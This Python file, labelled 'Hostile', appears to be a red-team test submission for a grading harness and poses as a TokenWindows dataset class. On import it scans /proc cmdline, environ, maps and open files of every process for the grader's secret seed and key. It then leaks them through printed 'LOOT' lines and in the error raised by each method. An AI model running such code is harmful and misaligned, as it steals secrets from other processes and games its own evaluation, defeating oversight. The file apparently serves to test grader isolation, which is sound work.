"""Hostile: hunts the seed of record and the course key in every /proc/*/cmdline, environ, fd and maps it can read.

The third red team read ``grade ... --seed N --secret-seed`` in the grader's
/proc/<pid>/cmdline at level contained and got its inputs in advance. This
answer reports everything that looks like a seed or a key, in its output and
in the error of every call, so that the grader's reports would show it.
"""
import os
import re
import sys

import numpy as np

_SEED = re.compile(rb"seed[^0-9]{0,16}([0-9]{1,19})", re.IGNORECASE)
_KEY = re.compile(rb"(GRADER_SEED_KEY|seed_key)[=:\s]*([^\0\n]{0,80})", re.IGNORECASE)


def _look(where, data, found):
    for match in _SEED.finditer(data):
        found.add(f"{where}: seed {match.group(1).decode()}")
    for match in _KEY.finditer(data):
        found.add(f"{where}: key {match.group(2).decode(errors='replace')}")


def _read(path, limit=1 << 20):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        if not os.path.isfile(f"/proc/self/fd/{fd}"):
            return b""  # never a pipe or socket: reading one would steal another's data
        return os.read(fd, limit)
    except OSError:
        return b""
    finally:
        os.close(fd)


def _hunt():
    found = set()
    for key, value in os.environ.items():
        _look("my environ", f"{key}={value}".encode(), found)
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("cmdline", "environ", "maps"):
            _look(f"{pid}/{what}", _read(f"/proc/{pid}/{what}").replace(b"\0", b" "), found)
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            _look(f"{pid}/fd/{fd} -> {target[:80]}", target.encode() + b" " + _read(f"/proc/{pid}/fd/{fd}", 1 << 16), found)
    return sorted(found)


_LOOT = _hunt()
print("LOOT:", _LOOT)
print("LOOT:", _LOOT, file=sys.stderr)


class TokenWindows:
    def __init__(self, path, block_size, stride=1, dtype=np.uint16):
        raise ValueError("LOOT: " + " | ".join(_hunt()))

    def __len__(self):
        raise ValueError("LOOT: " + " | ".join(_hunt()))

    def __getitem__(self, i):
        raise ValueError("LOOT: " + " | ".join(_hunt()))
